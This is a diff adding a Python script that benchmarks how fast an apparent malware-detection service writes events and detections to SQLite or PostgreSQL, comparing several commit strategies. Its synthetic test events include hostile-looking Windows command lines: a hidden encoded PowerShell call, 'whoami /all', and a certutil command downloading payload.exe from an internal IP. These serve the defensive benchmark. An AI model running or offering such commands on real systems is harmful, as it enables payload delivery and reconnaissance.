@@ -0,0 +1,180 @@
+#!/usr/bin/env python3
+"""
+Benchmark detection write throughput (events/sec) against SQLite or PostgreSQL
+"""
+
+import argparse
+import tempfile
+from concurrent.futures import ThreadPoolExecutor
+import time
+import uuid
+from datetime import datetime
+from pathlib import Path
+import sys
+
+# Add parent directory to path
+sys.path.insert(0, str(Path(__file__).parent.parent))
+
+from sqlalchemy import create_engine
+from sqlalchemy.orm import sessionmaker
+from app.core.database import Base
+from app.models.database import Event, Detection
+from app.services.detection import DetectionService
+from app.services.group_commit import GroupCommitWriter
+
+COMMAND_LINES = [
+    'C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule',
+    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
+    'cmd.exe /c whoami /all',
+    'certutil.exe -urlcache -split -f http://10.0.0.5/payload.exe C:\\Users\\Public\\p.exe',
+    'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL',
+]
+
+
+def make_events(count: int, unique: bool) -> list:
+    """Synthetic events; unique command lines bypass the score cache."""
+    events = []
+    for i in range(count):
+        command_line = COMMAND_LINES[i % len(COMMAND_LINES)]
+        if unique:
+            command_line = f"{command_line} {uuid.uuid4().hex}"
+        events.append({
+            'event_id': str(i),
+            'timestamp': datetime.now(),
+            'process_name': command_line.split()[0].split('\\')[-1],
+            'command_line': command_line,
+            'parent_image': 'C:\\Windows\\explorer.exe',
+            'user': 'DESKTOP\\analyst',
+            'integrity_level': 'Medium',
+            'raw_event_data': None
+        })
+    return events
+
+
+def write_per_row_commits(Session, service: DetectionService, events: list):
+    """Previous write path: commit+refresh the event, then the detection, then the explanation status."""
+    for event_data in events:
+        db = Session()
+        try:
+            event = service._build_event(event_data)
+            db.add(event)
+            db.commit()
+            db.refresh(event)
+            
+            features = service.feature_extractor.extract_features(event_data)
+            rf_score, lstm_score = service._score_features(features, service.model_registry.current())
+            malicious_score = service._combine_scores(rf_score, lstm_score, features)
+            detection = Detection(
+                event_id=event.id,
+                malicious_score=malicious_score,
+                random_forest_score=rf_score,
+                lstm_score=lstm_score,
+                is_malicious=False,
+                features=features
+            )
+            db.add(detection)
+            db.commit()
+            db.refresh(detection)
+            
+            detection.explanation_status = 'skipped'
+            db.commit()
+            db.refresh(detection)
+        finally:
+            db.close()
+
+
+def write_single_transaction(Session, service: DetectionService, events: list, threads: int = 1):
+    """Current write path: DetectionService.detect from concurrent request threads."""
+    def detect(event_data):
+        db = Session()
+        try:
+            service.detect(db, event_data)
+        finally:
+            db.close()
+    
+    with ThreadPoolExecutor(max_workers=threads) as executor:
+        list(executor.map(detect, events))
+
+
+def write_batch(Session, service: DetectionService, events: list, batch_size: int):
+    """Batch write path: DetectionService.detect_batch, one transaction per batch."""
+    for start in range(0, len(events), batch_size):
+        db = Session()
+        try:
+            service.detect_batch(db, events[start:start + batch_size])
+        finally:
+            db.close()
+
+
+def main():
+    parser = argparse.ArgumentParser(description='Benchmark detection write throughput')
+    parser.add_argument('--database-url', type=str, help='Database URL (default: temporary SQLite file)')
+    parser.add_argument('--events', type=int, default=1000, help='Events per write path')
+    parser.add_argument('--batch-size', type=int, default=100, help='Batch size for the detect_batch path')
+    parser.add_argument('--threads', type=int, default=8, help='Concurrent request threads for the detect paths')
+    parser.add_argument('--repeated', action='store_true', help='Reuse command lines so the score cache is hit')
+    
+    args = parser.parse_args()
+    
+    database_url = args.database_url
+    if not database_url:
+        database_url = f"sqlite:///{Path(tempfile.mkdtemp()) / 'benchmark_ingest.db'}"
+    
+    engine = create_engine(
+        database_url,
+        connect_args={"check_same_thread": False} if "sqlite" in database_url else {}
+    )
+    Base.metadata.create_all(bind=engine)
+    Session = sessionmaker(autocommit=False, autoflush=False, expire_on_commit=False, bind=engine)
+    
+    service = DetectionService()
+    if service.writer is not None:
+        # Each path picks its own writer; the configured one is bound to the application database
+        service.writer.shutdown()
+        service.writer = None
+    print(f"Database: {engine.url.render_as_string(hide_password=True)}")
+    print(f"Models: {service.model_version()}\n")
+    
+    def with_group_commit(write):
+        """Run a write path with a group-commit writer bound to the benchmark database."""
+        def run(events):
+            service.writer = GroupCommitWriter(
+                session_factory=Session,
+                spool_path=str(Path(tempfile.mkdtemp()) / 'group_commit.jsonl')
+            )
+            try:
+                write(events)
+            finally:
+                service.writer.shutdown()
+                service.writer = None
+        return run
+    
+    paths = [
+        ('per-row commits (previous)', lambda events: write_per_row_commits(Session, service, events)),
+        (f'detect, {args.threads} threads', lambda events: write_single_transaction(Session, service, events, args.threads)),
+        (f'group-commit, {args.threads} threads', with_group_commit(
+            lambda events: write_single_transaction(Session, service, events, args.threads)
+        )),
+        (f'batch of {args.batch_size} (detect_batch)', lambda events: write_batch(Session, service, events, args.batch_size)),
+    ]
+    
+    print(f"{'write path':<32} {'events':>8} {'seconds':>9} {'events/s':>10}")
+    try:
+        for name, write in paths:
+            events = make_events(args.events, unique=not args.repeated)
+            start = time.perf_counter()
+            write(events)
+            seconds = time.perf_counter() - start
+            print(f"{name:<32} {len(events):>8} {seconds:>9.2f} {len(events) / seconds:>10.1f}")
+    finally:
+        service.shutdown()
+    
+    db = Session()
+    try:
+        print(f"\nStored {db.query(Event).count():,} events and {db.query(Detection).count():,} detections")
+    finally:
+        db.close()
+
+
+if __name__ == "__main__":
+    main()